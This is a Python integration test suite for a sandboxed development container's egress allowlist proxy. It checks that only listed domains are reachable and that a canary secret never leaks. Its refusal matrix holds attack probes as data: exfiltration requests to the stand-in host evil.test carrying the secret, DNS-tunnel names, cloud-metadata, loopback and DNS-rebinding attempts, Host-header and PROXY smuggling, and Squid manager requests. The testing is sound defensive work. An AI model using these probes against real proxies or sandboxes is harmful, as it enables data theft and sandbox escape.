"""What DevBoxes reach and what they do not, in an internet of the test's own; nothing of it leaves the machine.

Each probe that must be refused has its control: the same server answered the machine just before. So "nothing came
back" means that it was refused, not that nothing was there.
"""

import asyncio
import base64
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psutil
import pytest
from playwright.async_api import expect

from console.app import serve
from console.config import ConsoleConfig
from console.workers import WorkerLink
from protos.errors import Cancelled, FailedPrecondition, InvalidArgument, NotFound
from protos.wire import DevBoxEvent
from tests.integration.canary import CANARY as SECRET
from tests.integration.canary import SECRET_ENV, check_files, watching
from tests.integration.commands import run as run_command
from tests.integration.conftest import (
    DEVBOX_IMAGE,
    IMAGE,
    OTHER_TENANT,
    PROGRAM,
    TENANT,
    Podman,
    Process,
    Worker,
    create,
    empty,
    eventually,
    running_worker,
    started,
)
from tests.integration.git_server import run as git
from tests.integration.internet import ALLOWED, CANARY, EVIL, METADATA, UPSTREAM, WORKER, Internet, internet
from tests.integration.page import chromium
from tests.integration.test_page_commands import devbox, opened

PROBE = (Path(__file__).parent / "probe.py").read_text()
NAMES = [".allowed.test", "exact.test"]

REACHED: list[tuple[list[Any], str]] = [
    (["connect", "allowed.test", 443], "allowed"),
    (["connect", "ALLOWED.test", 443], "allowed"),
    (["connect", "sub.allowed.test", 443], "allowed"),
    (["connect", "deep.sub.allowed.test", 443], "allowed"),
    (["connect", "exact.test", 443], "allowed"),
    (["connect", "exact.test.", 443], "allowed"),
    (["connect", "allowed.test", 22], "allowed"),
    (["connect", "six.allowed.test", 443], "six"),
    (["get", "allowed.test", 80], "allowed"),
    (["get", "sub.allowed.test", 80], "allowed"),
    (["get", "six.allowed.test", 80], "six"),
    (["raw", "", 0, "GET http://allowed.test/{secret} HTTP/1.0\r\nAuthorization: {secret}\r\n\r\n"], "allowed"),
    # A known limit, said in docs/security.md: what is asked of a host that is allowed is between it and the DevBox.
    (["connect", "allowed.test", 443, "evil.test"], "allowed"),
    (["get", "allowed.test", 80, "evil.test"], "allowed"),
]
"""(probe, whose canary comes back)."""

REFUSED: list[tuple[list[Any], str]] = [
    (["connect", "evil.test", 443], "evil"),
    (["connect", "evil.test", 22], "evil"),
    (["get", "evil.test", 80], "evil"),
    (["connect", "sub.exact.test", 443], "allowed"),
    (["connect", "other.test", 443], "allowed"),  # another DevBox may, and it is at the same address
    (["connect", "notallowed.test", 443], ""),
    (["connect", "allowed.test.evil.test", 443], ""),
    (["connect", ALLOWED, 443], "allowed"),
    (["connect", EVIL, 443], "evil"),
    (["connect", "185999626", 443], "allowed"),  # the same address as a number
    (["connect", "0x0b16210a", 443], "allowed"),
    (["get", ALLOWED, 80], "allowed"),
    (["connect", "2600:33::10", 443], "six"),
    (["connect", "::ffff:11.22.33.10", 443], "allowed"),
    (["connect", METADATA, 443], "metadata"),
    (["get", METADATA, 80], "metadata"),
    (["connect", "metadata.allowed.test", 443], "metadata"),
    (["get", "metadata.allowed.test", 80], "metadata"),
    (["get", "private.allowed.test", 80], "private"),
    (["get", "loop.allowed.test", 80], "machine"),
    (["get", "any.allowed.test", 80], "machine"),
    (["get", "mapped.allowed.test", 80], "machine"),
    (["get", "self.allowed.test", 80], "machine"),
    (["get", "self6.allowed.test", 80], "machine6"),
    (["get", "nat64.allowed.test", 80], ""),
    (["get", "local6.allowed.test", 80], ""),
    (["get", "twice.rebind.allowed.test", 80], "machine"),
    (["get", "localhost", 80], "machine"),
    (["get", "127.0.0.1", 80], "machine"),
    (["connect", "allowed.test", 9999], "allowed-9999"),
    (["connect", "allowed.test", 25], "allowed-25"),
    (["plain", "allowed.test", 80], "allowed"),
    (["get", "allowed.test", 8080], "allowed-8080"),
    (["connect", "secret-data.tunnel.test", 443], ""),
    (["get", "more-secret-data.tunnel.test", 80], ""),
    (["raw", "", 0, "GET ftp://allowed.test/ HTTP/1.0\r\n\r\n"], ""),
    (["raw", "", 0, "GET http://evil.test@allowed.test.evil.test/ HTTP/1.0\r\n\r\n"], "evil"),
    (["raw", "", 0, "GET http://evil.test/ HTTP/1.0\r\nHost: allowed.test\r\n\r\n"], "evil"),
    (["raw", "", 0, "GET http://evil.test/ HTTP/1.0\r\nX-Forwarded-For: 127.77.0.1\r\n\r\n"], "evil"),
    (["raw", "", 0, "PROXY TCP4 127.77.0.1 127.0.0.1 1 2\r\nGET http://evil.test/ HTTP/1.0\r\n\r\n"], "evil"),
    (["raw", "", 0, "GET http://evil.test/{secret} HTTP/1.0\r\nProxy-Authorization: Basic {secret}\r\n\r\n"], "evil"),
    (["raw", "", 0, "GET http://allowed.test:9/{secret} HTTP/1.0\r\n\r\n"], ""),
    (["raw", "", 0, "GET http://user:{secret}@evil.test/ HTTP/1.0\r\n\r\n"], "evil"),
    (["raw", "", 0, "{secret} http://allowed.test/ {secret}\r\n{secret}\r\n\r\n"], ""),
    (["raw", "", 0, "GET cache_object://localhost/info HTTP/1.0\r\n\r\n"], ""),
    (["raw", "", 0, "GET /squid-internal-mgr/info HTTP/1.0\r\nHost: localhost\r\n\r\n"], ""),
    (["tcp", ALLOWED, 80], "allowed"),
    (["tcp", EVIL, 80], "evil"),
    (["tcp", METADATA, 80], "metadata"),
    (["tcp", WORKER, 80], "machine"),
    (["tcp", "2600:33::10", 80], "six"),
    (["tcp", "10.88.0.1", 80], ""),
    (["tcp", "127.0.0.1", 80], "machine"),
    (["udp", ALLOWED, 9999], "udp"),
    (["udp", EVIL, 53], "udp-53"),
    (["udp", UPSTREAM, 53], ""),
    (["dns", "allowed.test", 443], ""),
    (["dns", "dns-data.tunnel.test", 443], ""),
    (["unix", "/egress/proxy.sock", 0], ""),
]
"""(probe, which server would answer, if any that we know of)."""


@dataclass
class Site:
    """An internet, and a worker whose egress process is in it."""

    internet: Internet
    egress: Process
    worker: Worker

    def parts(self, name: str) -> list[psutil.Process]:
        """The processes of the egress process with this name."""
        found = []
        with suppress(psutil.NoSuchProcess):
            for child in self._egress().children(recursive=True):
                with suppress(psutil.NoSuchProcess):  # one of the others has just ended
                    if child.name() == name:
                        found.append(child)
        return found

    def _egress(self) -> psutil.Process:
        return next(
            process
            for process in [psutil.Process(self.egress.pid), *psutil.Process(self.egress.pid).children(recursive=True)]
            if "egress" in process.cmdline()
        )


def egress_process(world: Internet, directory: Path, program: Sequence[str] = PROGRAM) -> Process:
    """An egress process in the worker's namespace, not started yet."""
    command = world.in_worker(*program, "egress", "--data-dir", str(directory / "data"), "--log-level", "DEBUG")
    return Process("egress", command, directory / "egress.log")


@pytest.fixture(scope="module")
def world() -> Iterator[Internet]:
    """The internet, with a site at allowed.test."""
    directory = Path(tempfile.mkdtemp(prefix="cc-net-"))
    site = directory / "site"
    site.mkdir()
    try:
        _fill(site)
        with internet(directory, site) as running:
            yield running
    finally:
        shutil.rmtree(directory, ignore_errors=True)


@pytest.fixture(scope="module")
async def site(podman: Podman, world: Internet) -> AsyncIterator[Site]:
    """One worker for all tests of this module."""
    directory = Path(tempfile.mkdtemp(prefix="cc-"))
    egress = egress_process(world, directory)
    tenants = ("--tenants", f"{TENANT},{OTHER_TENANT}", "--mode", "fleet", "--with-egress")
    try:
        async with (
            serve(ConsoleConfig(data_dir=directory / "console", port=0)) as console,
            running_worker(podman, console, directory, executor_args=tenants) as worker,
            started(egress),
        ):
            yield Site(world, egress, worker)
    finally:
        shutil.rmtree(directory, ignore_errors=True)


@pytest.fixture
async def link(site: Site) -> AsyncIterator[WorkerLink]:
    """The orchestrator's side of it, which has no DevBoxes before and after."""
    link = await site.worker.link()
    yield link
    await empty(link)


async def run(link: WorkerLink, devbox_id: str, command: str | list[str], **more: object) -> dict[str, Any]:
    """Run a command in a DevBox."""
    return await link.request("DevBox.exec", {"devboxId": devbox_id, "command": command, **more}, timeout_s=120)


async def probe(link: WorkerLink, devbox_id: str, probes: list[list[Any]]) -> list[str]:
    """Try probes in a DevBox; returns what came back for each."""
    answer = await run(
        link, devbox_id, ["python3", "-c", PROBE], stdin=_base64(json.dumps(probes)), maxOutputBytes=1024**2 // 2
    )
    assert answer["exitCode"] == 0, answer["stderr"]
    found: list[str] = json.loads(answer["stdout"])
    return found


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def from_machine(world: Internet, probes: list[list[Any]]) -> list[str]:
    """Try the same from the machine itself, where nothing is in between."""
    done = subprocess.run(
        world.in_worker(sys.executable, "-c", PROBE),
        input=json.dumps(probes), capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip
    found: list[str] = json.loads(done.stdout)
    return found


CONTROLS = {
    "allowed": ["tcp", "allowed.test", 80],
    "evil": ["tcp", "evil.test", 80],
    "metadata": ["tcp", METADATA, 80],
    "private": ["tcp", "private.allowed.test", 80],
    "machine": ["tcp", "loop.allowed.test", 80],
    "machine6": ["tcp", "self6.allowed.test", 80],
    "six": ["tcp", "six.allowed.test", 80],
    "allowed-8080": ["tcp", ALLOWED, 8080],
    "allowed-9999": ["tcp", ALLOWED, 9999],
    "allowed-25": ["tcp", ALLOWED, 25],
    "udp": ["udp", ALLOWED, 9999],
    "udp-53": ["udp", EVIL, 53],
}
"""How the machine reaches each canary."""


@pytest.mark.parametrize("profile", ["standard", "strict"])
async def test_a_devbox_reaches_what_its_list_names_and_nothing_else(
    site: Site, link: WorkerLink, podman: Podman, profile: str
) -> None:
    """The matrix."""
    await reaches_its_list_alone(site, link, profile, [*podman.places(), podman.directory])


async def reaches_its_list_alone(site: Site, link: WorkerLink, profile: str, places: list[str | Path]) -> None:
    """Every allowed name is reached, nothing else is, and no unlisted name is ever looked up.

    Nor is the DevBox's secret in ``places``, where the engine keeps things, in the worker's directory or an argument.
    """
    answers = await asyncio.to_thread(from_machine, site.internet, list(CONTROLS.values()))
    assert [label for label, found in zip(CONTROLS, answers, strict=True) if f"{CANARY}{label}" not in found] == []
    devbox_id = await create(link, image=DEVBOX_IMAGE, profile=profile, allowedDomains=NAMES, secretEnv=SECRET_ENV)
    await create(link, name="neighbour", profile=profile, allowedDomains=["other.test"])
    asked_before = len(site.internet.seen("dns"))

    async with watching(0.1) as watch:
        reached = await probe(link, devbox_id, [one for one, _ in REACHED])
        refused = await probe(link, devbox_id, [one for one, _ in REFUSED])

    check_files(site.worker.data, [devbox_id], [*places, site.worker.directory])
    assert any(f"/{SECRET}" in line for line in site.internet.seen("http"))  # it was there to be seen
    assert (watch.found, watch.looks > 0) == (set(), True)
    wrong = [(one, found) for (one, label), found in zip(REACHED, reached, strict=True) if CANARY + label not in found]
    assert wrong == []
    leaks = [(one, found) for (one, _), found in zip(REFUSED, refused, strict=True) if CANARY in found]
    assert leaks == []
    assert all(found.startswith("!") or re.match(r"HTTP/1.\d [45]", found) for found in refused), refused
    asked = set(site.internet.seen("dns")[asked_before:])
    # Squid asks once for the name of the loopback address that stands for a DevBox: nothing that the DevBox chose.
    unlisted = {
        name for name in asked if not re.fullmatch(r"(.+\.)?allowed\.test|exact\.test|.+\.127\.in-addr\.arpa", name)
    }
    assert unlisted == set()
    assert "metadata.allowed.test" in site.internet.seen("dns")  # the log does see what is asked
    # One that is allowed and answers now with a good address, now with this machine's.
    rebound = await probe(link, devbox_id, [["get", f"{n}.rebind.allowed.test", 80] for n in range(6)] * 2)
    assert not [found for found in rebound if CANARY in found and f"{CANARY}allowed" not in found]
    # The controls still hold, so the refusals above were none of servers that had gone.
    answers = await asyncio.to_thread(from_machine, site.internet, list(CONTROLS.values()))
    assert all(f"{CANARY}{label}" in found for label, found in zip(CONTROLS, answers, strict=True))


async def test_a_devbox_has_nothing_but_its_loopback(link: WorkerLink) -> None:
    """No interface, no route, no name of the machine; the proxy is all it is told of."""
    devbox_id = await create(link, allowedDomains=NAMES)
    bare = await create(link, name="bare", profile="strict")
    offline = await create(link, name="offline", profile="offline")

    found = [
        (
            await run(
                link, box, "ls /sys/class/net; cat /proc/net/route | tail -n +2; cat /etc/resolv.conf /etc/hosts; env"
            )
        )["stdout"]
        for box in (devbox_id, bare, offline)
    ]

    for text, name in zip(found, ("box", "bare", "offline"), strict=True):
        assert text.startswith(f"lo\n127.0.0.1\tlocalhost {name}\n::1\tlocalhost {name}\n"), text
    assert "HTTPS_PROXY=http://127.0.0.1:3128\n" in found[0]
    assert "proxy" not in (found[1] + found[2]).lower()
    boxes = {box["name"]: box["network"] for box in (await link.request("DevBox.list"))["devboxes"]}
    assert boxes == {"box": "allowlist", "bare": "none", "offline": "none"}
    # An empty list needs no way out, so there is none to attack.
    beside = Podman.run("ps", "-a", "--filter", "label=io.clustercode.beside", "--format", "{{.Names}}").split()
    assert sorted(beside) == [f"clustercode-{devbox_id}-egress", f"clustercode-{devbox_id}-net"]


async def test_development_tools_work_without_set_up(site: Site, link: WorkerLink) -> None:
    """git over https and ssh, curl, pip and npm go through the proxy by the environment and our image's settings."""
    devbox_id = await create(link, image=DEVBOX_IMAGE, allowedDomains=NAMES)
    ca = await run(link, devbox_id, "cat >/tmp/ca.pem", stdin=_base64(site.internet.ca))
    assert ca["exitCode"] == 0
    env = {
        "GIT_SSL_CAINFO": "/tmp/ca.pem", "CURL_CA_BUNDLE": "/tmp/ca.pem", "PIP_CERT": "/tmp/ca.pem",
        "NODE_EXTRA_CA_CERTS": "/tmp/ca.pem", "PIP_DISABLE_PIP_VERSION_CHECK": "1", "GIT_TERMINAL_PROMPT": "0",
    }  # fmt: skip

    commands = {
        "git": "git clone -q https://allowed.test/project.git /tmp/project && cat /tmp/project/README",
        "curl": "curl -sS https://sub.allowed.test/anything http://allowed.test/anything",
        "pip": "pip install -q --index-url https://allowed.test/simple/ canarypkg && python3 -c 'import canarypkg'",
        "npm": "cd /tmp && npm install --silent --no-fund --registry https://allowed.test/npm/ canarypkg"
        " && node -e 'require(\"canarypkg\")'",
    }
    found = await asyncio.gather(*(run(link, devbox_id, command, env=env) for command in commands.values()))
    said = {name: (answer["exitCode"], answer["stdout"]) for name, answer in zip(commands, found, strict=True)}
    assert said == {
        "git": (0, "one\n"),
        "curl": (0, f"{CANARY}allowed\n{CANARY}allowed\n"),
        "pip": (0, "pip works\n"),
        "npm": (0, "npm works\n"),
    }, found

    # No SSH server is in this internet: that git's ssh greets what listens on port 22 there says that it gets through.
    async def by_ssh() -> None:
        asked = {"devboxId": devbox_id, "command": "git ls-remote ssh://git@allowed.test/project.git", "env": env}
        with suppress(Cancelled):  # or it has given up by itself before
            await link.request("DevBox.exec", asked, request_id="by-ssh", timeout_s=120)

    def greeted() -> bool:
        return any(line.startswith("allowed SSH-2.0-OpenSSH") for line in site.internet.seen("tcp"))

    async with asyncio.TaskGroup() as tasks:
        tasks.create_task(by_ssh(), name="by ssh")
        await eventually(greeted)
        link.cancel("by-ssh")
    evil = await run(
        link, devbox_id, "git ls-remote https://evil.test/project.git; curl -sS https://evil.test/", env=env
    )
    assert evil["stderr"].count("403") == 2
    assert not [line for line in site.internet.seen("http") if line.startswith("evil") and "probe" not in line]


async def test_a_refusal_is_told_once_with_the_host(site: Site, link: WorkerLink) -> None:
    """DevBox.event says which host and what to do, not for every try; so does the page."""
    told: list[DevBoxEvent] = []
    to_pages = link.on_event

    def on_event(worker: WorkerLink, event: DevBoxEvent) -> None:
        told.append(event)
        to_pages(worker, event)

    link.on_event = on_event
    devbox_id = await create(link, image=DEVBOX_IMAGE, allowedDomains=NAMES)

    await probe(link, devbox_id, [["connect", "evil.test", 443]] * 5 + [["get", "loop.allowed.test", 80]])
    assert site.worker.console is not None
    async with chromium() as browser, opened(browser, site.worker.console) as page:
        await expect(devbox(page, "box")).to_be_visible()
        await probe(link, devbox_id, [["connect", "allowed.test", 9999]])
        await expect(devbox(page, "box").get_by_test_id("devbox-denied")).to_contain_text("allowed.test: port 9999")

    await eventually(lambda: len(told) >= 3)
    events = {event.host: event.detail or "" for event in told}
    assert [*map(type, told)] == [DevBoxEvent] * 3
    assert {(event.event, event.devbox_id, event.tenant_id) for event in told} == {("egress-denied", devbox_id, TENANT)}
    assert set(events) == {"evil.test", "loop.allowed.test", "allowed.test"}
    assert "allowedDomains" in events["evil.test"]
    assert "private" in events["loop.allowed.test"]
    assert "9999" in events["allowed.test"]
    told.clear()
    await probe(link, devbox_id, [["connect", EVIL, 443]])
    await eventually(lambda: len(told) >= 1)
    assert (told[0].host, "never addresses" in (told[0].detail or "")) == (EVIL, True)


async def test_the_list_changes_while_the_devbox_runs(link: WorkerLink) -> None:
    """A name that is added is reached, one that is taken away is not; open connections go on unless they are cut."""
    devbox_id = await create(link, image=DEVBOX_IMAGE, profile="strict", allowedDomains=["allowed.test"])
    background = await link.request(
        "DevBox.exec.background", {"devboxId": devbox_id, "command": ["python3", "-c", PING, "allowed.test"]}
    )
    await _output(link, devbox_id, background["backgroundId"], "more")

    answer = await link.request("DevBox.egress", {"devboxId": devbox_id, "allowedDomains": ["*.Exact.test"]})
    assert answer == {"allowedDomains": [".exact.test"]}

    async def follows() -> bool:
        found = await probe(link, devbox_id, [["connect", "exact.test", 443], ["connect", "allowed.test", 443]])
        return CANARY in found[0] and found[1].startswith("!")

    await eventually(follows)
    count = len(await _output(link, devbox_id, background["backgroundId"], "more"))
    await eventually(lambda: _longer(link, devbox_id, background["backgroundId"], count))

    await link.request("DevBox.egress", {"devboxId": devbox_id, "allowedDomains": [], "cut": True})
    await _output(link, devbox_id, background["backgroundId"], "ended")
    assert (await probe(link, devbox_id, [["connect", "exact.test", 443]]))[0].startswith("!")


async def test_wrong_lists_are_refused(link: WorkerLink) -> None:
    """With a sentence about what a name is; and only a DevBox that has a list can change it, by its own tenant."""
    devbox_id = await create(link, allowedDomains=NAMES)
    offline = await create(link, name="offline", profile="offline")

    for name in ("10.0.0.1", "com", "*", "a_b.test", "https://x.test", "x.test:443", "*.com", "::1", "2130706433"):
        for command, payload in (
            ("DevBox.create", {"name": "bad", "image": IMAGE}), ("DevBox.egress", {"devboxId": devbox_id}),
        ):  # fmt: skip
            with pytest.raises(InvalidArgument, match="allowedDomains: "):
                await link.request(command, {**payload, "allowedDomains": [name]})
    with pytest.raises(InvalidArgument, match="standard and strict"):
        await link.request(
            "DevBox.create", {"name": "bad", "image": IMAGE, "profile": "offline", "allowedDomains": NAMES}
        )
    with pytest.raises(FailedPrecondition, match="offline"):
        await link.request("DevBox.egress", {"devboxId": offline, "allowedDomains": NAMES})
    with pytest.raises(NotFound):
        await link.request("DevBox.egress", {"devboxId": devbox_id, "allowedDomains": [], "tenantId": OTHER_TENANT})


async def test_what_is_killed_comes_back_and_nothing_leaks(site: Site, link: WorkerLink, podman: Podman) -> None:
    """On the engine that all tests have."""
    await survives_kills(site, link, Podman.run, [*podman.places(), podman.directory])


async def survives_kills(site: Site, link: WorkerLink, engine: Callable[..., str], places: list[str | Path]) -> None:
    """Squid, its helper, the bridge, the sidecar, the holder, and the processes of ours: the DevBox runs on.

    ``engine`` runs its command line, and ``places`` are where it keeps things: its secret is nowhere after.
    """
    devbox_id = await create(link, image=DEVBOX_IMAGE, allowedDomains=NAMES, secretEnv=SECRET_ENV)
    begun = (await link.request("DevBox.list"))["devboxes"][0]["startedAt"]

    async def kill(name: str) -> None:
        if name in ("egress", "net"):
            engine("kill", "-s", "KILL", f"clustercode-{devbox_id}-{name}")
        elif name == "executor":
            await site.worker.executor.kill()
            await site.worker.executor.start()
        elif name == "process":
            site._egress().kill()
            await site.egress.stop()
            await site.egress.start()
        else:
            for process in site.parts("squid" if name == "squid" else "socat"):
                is_bridge = "UNIX-LISTEN" in " ".join(process.cmdline())
                if name == "squid" or is_bridge == (name == "bridge"):
                    process.kill()

    async def works() -> bool:
        with suppress(Exception):
            found = await probe(link, devbox_id, [["connect", "allowed.test", 443], ["connect", "evil.test", 443]])
            assert CANARY not in found[1], "it leaks"
            return CANARY in found[0]
        return False

    for name in ("helper", "squid", "bridge", "egress", "net", "egress", "process", "executor"):
        await kill(name)
        found = []
        with suppress(Exception):  # whoever is away, nothing else is a way out
            found = await probe(link, devbox_id, [["connect", "evil.test", 443], ["tcp", EVIL, 80], ["udp", EVIL, 53]])
        assert not any(CANARY in text for text in found), name
        await eventually(works)
    assert (await link.request("DevBox.list"))["devboxes"][0]["startedAt"] == begun

    # And after a restart of the DevBox, with all that died before.
    await link.request("DevBox.stop", {"devboxId": devbox_id, "timeoutSeconds": 0})
    await link.request("DevBox.start", {"devboxId": devbox_id})
    await eventually(works)
    check_files(site.worker.data, [devbox_id], [*places, site.worker.directory])
    await link.request("DevBox.remove", {"devboxId": devbox_id, "force": True})
    check_files(site.worker.data, [], [*places, site.worker.directory])
    assert engine("ps", "-aq", "--filter", "label=io.clustercode.beside").split() == []
    data = site.worker.data / "egress"
    await eventually(
        lambda: [*(data / "policy").iterdir(), *(data / "boxes").iterdir(), *(data / "own").iterdir()] == []
    )
    await eventually(
        lambda: not [process for process in site.parts("socat") if "UNIX-LISTEN" in " ".join(process.cmdline())]
    )


async def test_what_the_owner_removes_takes_its_way_out_along(site: Site, link: WorkerLink) -> None:
    """As `DevBox.remove` does: the containers beside it and its bridge go at once, and its list."""
    devbox_id = await create(link, allowedDomains=NAMES)
    removed = await run_command("devboxes", "remove", devbox_id, "--data-dir", str(site.worker.data), home=Path("/"))

    assert (removed.code, removed.err) == (0, "")
    assert Podman.run("ps", "-aq", "--filter", "label=io.clustercode.beside").split() == []
    assert [*(site.worker.data / "egress" / "policy").iterdir()] == []
    assert not [process for process in site.parts("socat") if "UNIX-LISTEN" in " ".join(process.cmdline())]


async def test_a_build_reaches_the_built_in_names_alone(site: Site, link: WorkerLink, podman: Podman) -> None:
    """By the same way as a standard DevBox, with nothing said in the Containerfile, and nothing left of it after."""
    try:
        await builds_reach(site, link, podman.run, routed=True)
    finally:
        label = f"label=io.clustercode.builder={(site.worker.data / 'install').read_text().strip()}"
        while images := podman.run("images", "-aq", "--no-trunc", "--filter", label).split():
            podman.run("rmi", "-f", *set(images))


async def builds_reach(site: Site, link: WorkerLink, engine: Callable[..., str], *, routed: bool) -> None:
    """The built-in names and no other, or, where the engine cannot route a build, nothing at all.

    ``engine`` runs its command line.
    """
    steps = (
        "curl -sS -m 60 http://deb.debian.org/probe 2>&1 || true",
        "curl -sS -m 60 http://evil.test/probe 2>&1 || true",
        f"curl -sS -m 5 --noproxy '*' http://{ALLOWED}/probe 2>&1 || true",
        f"curl -sS -m 5 --noproxy '*' http://{WORKER}/probe 2>&1 || true",
        "getent hosts deb.debian.org || true",
        "echo interfaces: $(tail -n +3 /proc/net/dev | cut -d: -f1).",  # not /sys, which a rootless build shares
        "python3 -c 'import socket; socket.socket(socket.AF_VSOCK)' 2>&1 || true",
    )
    said: list[str] = []
    asked, seen = len(site.internet.seen("dns")), len(site.internet.seen("http"))
    containerfile = f"FROM {DEVBOX_IMAGE}\nUSER root\n" + "".join(f"RUN {step}\n" for step in steps)
    await link.request(
        "image.build",
        {"name": "cc-egress-built", "containerfile": containerfile, "noCache": True},
        on_progress=lambda step: said.append(step.get("log", "")),
        timeout_s=120,
    )
    text = "".join(said)

    assert text.count(CANARY) == routed
    assert (f"{CANARY}allowed" in text, "Access Denied" in text) == (routed, routed)
    assert [line.split()[:2] for line in site.internet.seen("http")[seen:]] == [["allowed", "deb.debian.org"]] * routed
    assert "interfaces: lo." in text
    assert text.count("curl: (7)") == 2, "addresses, to which there is no route"
    assert not routed or "Function not implemented" in text, "nor the sockets that need no network"
    assert "evil.test" not in site.internet.seen("dns")[asked:]
    assert routed or site.internet.seen("dns")[asked:] == []
    assert engine("ps", "-aq", "--filter", "label=io.clustercode.beside").split() == []
    assert [*(site.worker.data / "egress/policy").iterdir()] == []
    assert "3128" not in engine("inspect", "-f", "{{.Config.Env}}", "localhost/cc-egress-built:latest")


async def test_egress_runs_under_a_user_of_its_own(site: Site, link: WorkerLink) -> None:
    """Squid, bridges and their keeper are not root, whose engine socket and data they could read otherwise."""
    await create(link, allowedDomains=NAMES)

    processes = [site._egress(), *site.parts("squid"), *site.parts("socat")]
    assert {process.name() for process in processes} >= {"squid", "socat"}
    if os.geteuid() == 0:
        assert not {process.uids().real for process in processes} & {0}


async def test_a_data_directory_that_no_executor_has_is_refused(directory: Path) -> None:
    """A slip of the pen is said, and makes no directory."""
    ended = await run_command("egress", "--data-dir", str(directory / "slip"), home=directory)
    assert ended.code == 4
    assert "No executor has used" in ended.err
    assert not (directory / "slip").exists()


async def test_a_worker_without_egress_makes_devboxes_without_a_network(podman: Podman, directory: Path) -> None:
    """It says so, and refuses a list that was asked for."""
    async with (
        serve(ConsoleConfig(data_dir=directory / "console", port=0)) as console,
        running_worker(podman, console, directory) as worker,
    ):
        link = await worker.link()
        steps: list[str] = []
        answer = await link.request(
            "DevBox.create", {"name": "box", "image": IMAGE}, on_progress=lambda step: steps.append(step["message"])
        )
        assert answer["devbox"]["network"] == "none"
        assert any("no network" in step for step in steps)
        with pytest.raises(FailedPrecondition, match="egress"):
            await link.request("DevBox.create", {"name": "more", "image": IMAGE, "allowedDomains": NAMES})


PING = """
import socket, sys, time
connection = socket.create_connection(("127.0.0.1", 3128), 8)
connection.sendall(f"CONNECT {sys.argv[1]}:22 HTTP/1.1\\r\\n\\r\\n".encode())
try:
    while data := connection.recv(4096):
        print(data.decode(errors="replace"), flush=True)
        time.sleep(0.1)
        connection.sendall(b"ping\\n")
except OSError:
    pass
print("ended", flush=True)
time.sleep(60)
"""


async def _output(link: WorkerLink, devbox_id: str, background_id: str, text: str) -> str:
    asked = {"devboxId": devbox_id, "backgroundId": background_id, "offset": 0}
    async with asyncio.timeout(60):
        while True:
            data = base64.b64decode((await link.request("DevBox.exec.background.capture", asked))["data"]).decode()
            if text in data:
                return data
            await asyncio.sleep(0.1)


async def _longer(link: WorkerLink, devbox_id: str, background_id: str, count: int) -> bool:
    return len(await _output(link, devbox_id, background_id, "more")) > count


def _fill(site: Path) -> None:
    """Make a git repository, a Python package and an npm package that static pages serve."""
    work = site.parent / "work"
    git("init", "-q", "--initial-branch=main", str(work))
    (work / "README").write_text("one\n")
    git("-C", str(work), "add", "README")
    git("-C", str(work), "commit", "-q", "-m", "one")
    git("clone", "-q", "--bare", str(work), str(site / "project.git"))
    git("-C", str(site / "project.git"), "update-server-info")

    wheel = site / "simple" / "canarypkg" / "canarypkg-1.0-py3-none-any.whl"
    wheel.parent.mkdir(parents=True)
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("canarypkg.py", "print('pip works')\n")
        archive.writestr("canarypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: canarypkg\nVersion: 1.0\n")
        archive.writestr(
            "canarypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr("canarypkg-1.0.dist-info/RECORD", "")
    (wheel.parent / "index.html").write_text(f'<a href="{wheel.name}">{wheel.name}</a>')

    package = io.BytesIO()
    with tarfile.open(fileobj=package, mode="w:gz") as archive:
        for name, text in {
            "package.json": '{"name": "canarypkg", "version": "1.0.0"}',
            "index.js": "console.log('npm works')",
        }.items():
            entry = tarfile.TarInfo(f"package/{name}")
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    (site / "npm").mkdir()
    (site / "npm" / "canarypkg.tgz").write_bytes(package.getvalue())
    digest = base64.b64encode(hashlib.sha512(package.getvalue()).digest()).decode()
    version = {
        "name": "canarypkg", "version": "1.0.0",
        "dist": {"tarball": "https://allowed.test/npm/canarypkg.tgz", "integrity": f"sha512-{digest}"},
    }  # fmt: skip
    about = {"name": "canarypkg", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    (site / "npm" / "canarypkg").write_text(json.dumps(about))
